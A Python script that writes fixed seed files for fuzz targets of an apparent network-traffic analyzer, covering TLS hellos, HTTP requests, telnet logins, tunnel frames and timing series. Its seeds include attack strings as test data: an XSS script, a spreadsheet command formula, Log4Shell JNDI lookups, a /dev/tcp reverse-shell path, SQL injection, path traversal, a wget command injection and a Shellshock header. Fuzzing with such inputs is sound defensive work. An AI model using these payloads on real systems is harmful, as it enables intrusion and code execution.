#!/usr/bin/python3
"""Writes the seeds of the fuzz targets into corpus/; the same ones at every run.

SPDX-License-Identifier: GPL-2.0-or-later
"""
import pathlib
import random
import struct
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "generate"))
import first_segments  # noqa: E402
import segments  # noqa: E402
import stratum  # noqa: E402
import x509  # noqa: E402
from payload import (http_get, program_for_windows, tls12_server_hello, tls_client_hello,  # noqa: E402
                     tls_server_hello)

CORPUS = pathlib.Path(__file__).parent / "corpus"

TEXTS = {
    "plain": b"10.0.0.1",
    "xml": b"]]></data>&lt;\"'<!--",
    "script": b"</script><script>alert(1)</script>\xe2\x80\xa8\xe2\x80\xa9",
    "backslash": b"\\N\\G\\l\\",
    "formula": b"=cmd|' /C calc'!A0",
    "formula-behind-control": b"\r\n\x01+1",
    "csv": b'a,"b";c\td',
    "control": bytes(range(32)) + b"\x7f\xc2\x80\xc2\x9f\x1b[31m",
    "invalid-utf8": b"\xff\xc0\xaf\xed\xa0\x80\xf4\x90\x80\x80\xe2\x82",
    "noncharacter": b"\xef\xbf\xbe\xef\xbf\xbf\xef\xbb\xbf",
    "right-to-left": b"\xe2\x80\xaegpj.exe\xe2\x80\x8f\xe2\x81\xa6",
    "limit": b"x" * 4095 + b"\xe2\x82\xac",
    "long": b"\xf0\x9f\x98\x80" * 2000,
    "empty": b"",
}


def text(value):
    return bytes([len(value[:255])]) + value[:255]


def packet(what, source, destination, protocol, info=b"", ports=(80, 90, 2)):
    return (bytes([what]) + text(source) + text(destination) + text(protocol) + text(info)
            + (bytes(ports) if what & 1 else b""))


def name(address, value):
    return bytes([201]) + text(address) + text(value)


def login(client, server, protocol, user):
    return bytes([202]) + text(client) + text(server) + text(protocol) + text(user)


A, B, GROUP = b"\x0a\x00\x00\x01", b"\x0a\x00\x00\x02", b"\xe0\x00\x00\xfb"
FORMATS = {
    "empty": b"",
    "usual": text(b"10.0.0.1") + packet(61, A, B, b"TCP") + packet(61, B, A, b"TCP")
             + packet(60, A, GROUP, b"MDNS") + name(B, b"www.example.com")
             + login(A, B, b"FTP", b"anonymous"),
    "scan": text(b"") + b"".join(packet(61, A, B, b"TCP", b"", (80, port, 2))
                                 for port in range(40)),
    "clash": text(b"a") + packet(8, b"a", b"a\x01", b"X") + packet(8, b"a\x02", b"\x01", b"X")
             + packet(8, b"'=a", b"=a", b"X") + packet(8, A, b"10.0.0.1", b"X"),
    "one-sided": text(b"") + packet(8, b"", A, b"STP") + packet(8, A, b"", b"STP")
                 + packet(8, b"", b"", b"STP") + packet(8, A, A, b"LOOP"),
    "hostile": text(b"") + b"".join(
        packet(9, value or b"?", B, value, value) + name(B, value) + login(A, B, value, value)
        for value in TEXTS.values()),
}

LISTS = {
    "empty": b"",
    "usual": b"\xef\xbb\xbf# office\r\n10.0.0.0/8\r\n10.0.0.5 rule=port-scan # scanner\n"
             b"2001:db8::/32\n00:25:b3:bf:91:ee\n*.example.com\nm\xc3\xbcller.example\n",
    "wrong": b"10.0.0.5/8\n",
    "not-text": bytes(range(256)),
    "long": b"a" * 70000 + b".example\n",
    "dots": b"..\n.\n*.\n/\n#\n",
}

SEEDED = random.Random(1)
HELLO = tls_client_hello(SEEDED, b"www.example.com")
HELLOS = {
    "usual": HELLO,
    "cut-off": HELLO[:100],
    "no-name": tls_client_hello(SEEDED, b""),
    "not-ascii": tls_client_hello(SEEDED, b"\xff\x00m\xc3\xbcller"),
    "long": tls_client_hello(SEEDED, b"y" * 3000),
    "server": tls_server_hello(SEEDED),
    "certificate": tls12_server_hello(SEEDED, x509.self_signed(SEEDED, "localhost", 365)),
    "chain": tls12_server_hello(SEEDED, x509.chain(SEEDED, "www.example.com")),
    "der": x509.self_signed(SEEDED, "localhost", 365, "Firm")[0],
}

GET = http_get(b"www.example.com")
REQUESTS = {
    "usual": GET,
    "cut-off": GET[:-3],
    "two": GET + GET,
    "fields": b"HEAD /x?y HTTP/1.0\r\nA:\r\nhost:b:80\r\nC: d e\r\n\r\n",
    "not-ascii": b"GET / HTTP/1.1\r\nHost: m\xc3\xbc\0\r\n\r\n",
    "addresses": b"GET /?x=${jndi:ldap://192.0.2.1:1389/a}&y=%5B2001%3Adb8%3A%3A1%5D%3A80 HTTP/1.1\r\nA: /dev/tcp/192.0.2.1/80\r\n\r\n",
    "content": b"POST / HTTP/1.1\r\nContent-Length: 1\r\n\r\nx",
    "injections": b"GET /a/../../b?c=%27or%271%27%3d1&d=${${lower:j}ndi:x}&e=;wget+http://f HTTP/1.1\r\n"
                  b"A: () { :;}\r\n\r\n",
    "program": b"HTTP/1.1 200 OK\r\nContent-Disposition: a; filename=\"b.exe\"\r\n\r\n40\r\n" +
               program_for_windows(SEEDED, 9, 0x80),
}

INFOS = {
    "request": b"GET http://user:pw@h.example/a;b/c?d=e#f HTTP/1.1",
    "command": b"Request: PASS secret",
    "status": b"Session Setup Response, NTLMSSP_CHALLENGE, Error: STATUS_PENDING",
    "ports": "50000 \u2192 80 [SYN] Seq=0".encode(),
    "sip": b"Request: INVITE sip:u:pw@h.example;x | ",
}

FIRST = {name: dialogue[-1 if name in ("RDP", "Socks") else 0][1] for name, dialogue in first_segments.DIALOGUES.items()}
FIRST.update({f"no-{name}": dialogue[0][1] for name, dialogue in first_segments.OTHERS.items()})
FIRST["Monero"] = next(stratum.Monero(SEEDED).begin())[1]
FIRST["deep"] = b"{" * 40 + b'"method":"mining.subscribe"'
FIRST["lost-key-exchange"] = first_segments.DIALOGUES["SSH"][2][1]


def said(*segments):
    """Each (flags, bytes): 1 from the client, 2 the first, 4 once more, 8 cut off, 16 before all was there."""
    return b"".join(bytes([flags, len(content)]) + content for flags, content in segments)


WILL_ECHO = b"\xff\xfb\x01"
LOGINS = {
    "echo": said((2, WILL_ECHO + b"login: "), (3, b"al"), (0, b"al"), (1, b"\r\0"), (0, b"\r\nPassword: "),
                 (1, b"secret\r\0"), (0, b"\r\nLogin incorrect\r\nlogin: ")),
    "line-mode": said((2, b"myhost login: "), (3, b"al\r\nsecret\r\n"), (0, b"Password: ")),
    "edited": said((2, WILL_ECHO + b"login: "), (3, b"abc\x7f\xff\xf7l"), (0, b"abc\b \b\b\x1b[Kl"), (1, b"\r")),
    "languages": said((2, "Контора\r\nимя пользователя: ".encode()), (3, "иван\n".encode()),
                      (0, "Пароль login: ".encode()), (1, b"secret\n"), (0, "用户名：".encode())),
    "late": said((2, b"login: "), (19, b"al\r\n"), (0, b"\r\nlogin: "), (1, b"al\r\n")),
    "lost": said((2, b"login: "), (3, b"al"), (5, b"al"), (9, b"\r\n"), (8, b"login: ")),
    "sequences": said((2, b"\x1b[2J\x1b[1;1H\x1b[0mlogin:\x1b"), (3, b"\xff\xfa\x18"), (1, b"\xff\xf0al\r")),
    "long": said((2, b"x" * 255), *[(0, b"y" * 255) for _ in range(17)], (0, b"\r\nlogin: "), (3, b"z" * 70)),
}



def series(what, who, times, first, step):
    """`first` and `step` in ns."""
    return struct.pack("<BBBqq", what, who, times, first, step)


SECOND = 10 ** 9
NOW, NONE, LAST = 1767607200 * SECOND, -2 ** 63, 2 ** 62 - 1
TIMES = {
    "scan": series(128, 9, 60, NOW, SECOND) + series(144 + 1, 9, 60, NOW + 1, SECOND),
    "beacon": series(32, 13, 40, NOW, 60 * SECOND) + series(32 + 16 + 2, 13, 40, NOW + 9, 60 * SECOND),
    "flood": series(4 + 128, 9, 255, NOW, 1000) * 6,
    "none": series(8, 10, 200, NONE, 0) + series(128, 133, 60, NONE, 0),
    "zero": series(0, 6, 40, 0, 0) + series(8, 9, 30, 0, 1),
    "leading": series(0, 7, 20, NONE, 0) + series(4, 69, 80, NOW, 0),
    "last": series(0, 13, 30, LAST, -1) + series(2 + 16, 13, 30, -LAST, 1),
    "overflow": series(128, 9, 90, 2 ** 63 - 1, 2 ** 62) + series(8, 9, 40, -2 ** 63 + 1, -2 ** 61),
    "set-back": series(3, 13, 9, NOW, 3600 * SECOND) + series(19, 13, 9, NOW - 9 * 3600 * SECOND, SECOND),
    "once-far-off": series(3, 13, 9, NOW, SECOND) + series(3, 13, 0, NOW + 2 ** 60, 0) + series(3, 13, 9, NOW, SECOND),
}

# The last frame of each scene, and how it begins: with Ethernet, and 4 headers.
SCENES = ("vlan", "qinq", "vxlan", "geneve", "gre", "routed-tunnel", "tunnel-ports", "tunnel-ends", "ip-in-ip-ipv6")
FRAMES = {name: bytes([4 << 2]) + list(segments.SCENES[name]())[-1] for name in SCENES}
FRAMES["cut-off"] = FRAMES["vxlan"][:60]
FRAMES["cooked"] = bytes([1 << 2 | 2]) + b"\0\0\0\1\0\6" + bytes(8) + b"\x81\0" + FRAMES["vlan"][15:]
FRAMES["raw"] = bytes([3 << 2 | 1]) + FRAMES["routed-tunnel"][15:]

TIMES = {name: content + b"w" for name, content in TIMES.items()}  # written in all formats, too

for target, seeds in (("text", TEXTS), ("formats", FORMATS), ("list", LISTS), ("tls", HELLOS),
                      ("http", REQUESTS), ("first", FIRST), ("info", INFOS), ("typed", LOGINS),
                      ("times", TIMES), ("frame", FRAMES)):
    folder = CORPUS / target
    folder.mkdir(parents=True, exist_ok=True)
    for seed, content in seeds.items():
        (folder / seed).write_bytes(content)
